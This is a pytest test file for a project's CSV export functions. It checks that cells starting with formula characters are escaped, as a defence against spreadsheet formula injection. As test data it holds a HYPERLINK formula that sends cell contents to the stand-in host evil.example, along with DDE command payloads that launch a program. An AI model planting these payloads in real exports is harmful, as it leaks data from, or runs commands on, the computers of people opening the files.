"""Every CSV export neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select
from sqlalchemy.orm import Session

from ivr.db import db
from ivr.ops.exports import (
    export_accounts_csv,
    export_audit_csv,
    export_payments_csv,
    export_sms_csv,
    neutralise_cell,
)
from ivr.security.audit import record
from models import Account, Payment, SmsMessage
from tests.export_helpers import export

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(("cell", "exported"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("+1 415 555 0100", "'+1 415 555 0100"),  # not a plain number: it has spaces
    # Plain numbers cannot be formulas: a credit balance and an E.164 phone stay numbers.
    ("-12.50", "-12.50"),
    ("+14155550100", "+14155550100"),
    ("12.50", "12.50"),
    ("Jordan = Rivera", "Jordan = Rivera"),
    ("", ""),
    (3, 3),
])
def test_formula_cells_are_neutralised(cell: object, exported: object) -> None:
    assert neutralise_cell(cell) == exported


def plant(session: Session) -> None:
    """An account, a payment, a text and an audit event, each carrying formulas."""
    account = session.scalars(select(Account).where(Account.account_number == "10001234")).one()
    account.name = HYPERLINK
    session.add(Payment(account_id=account.id, idempotency_key="k-1", amount_cents=100,
                        status="declined", method="card", decline_code="=1+1",
                        card_brand="@brand", call_sid="-CA1"))
    session.add(SmsMessage(to_number="+14155550100", body="@SUM(1+1) your payment"))
    record(session, "caller:+14155550100", "pin_check", "wrong", origin="\t=2+2",
           detail="+cmd|' /C calc'!A0")


@pytest.mark.parametrize(("exporter", "expected"), [
    (export_accounts_csv, {"name": "'" + HYPERLINK, "phone": "+14155550100"}),
    (export_payments_csv, {"decline_code": "'=1+1", "card_brand": "'@brand",
                           "call_sid": "'-CA1"}),
    (export_sms_csv, {"body": "'@SUM(1+1) your payment", "to": "+14155550100"}),
    (export_audit_csv, {"origin": "'\t=2+2", "detail": "'+cmd|' /C calc'!A0"}),
])
def test_every_export_neutralises_formulas(demo_app: Flask, exporter: Any,
                                           expected: dict[str, str]) -> None:
    with db.transaction(demo_app) as session:
        plant(session)

    rows = export(demo_app, exporter)

    matching = [row for row in rows if all(row[k] == v for k, v in expected.items())]
    assert len(matching) == 1, rows
    for row in rows:
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row.values()), row
